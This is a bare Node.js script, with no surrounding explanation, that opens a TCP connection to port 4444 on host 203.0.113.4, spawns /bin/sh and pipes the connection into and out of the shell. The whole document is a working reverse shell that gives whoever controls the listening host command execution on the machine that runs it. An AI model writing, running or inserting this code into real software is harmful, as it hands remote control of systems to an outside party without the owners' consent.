const net = require('net');
const { spawn } = require('child_process');
const c = net.connect(4444, '203.0.113.4', () => {
  const sh = spawn('/bin/sh', []);
  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c);
});
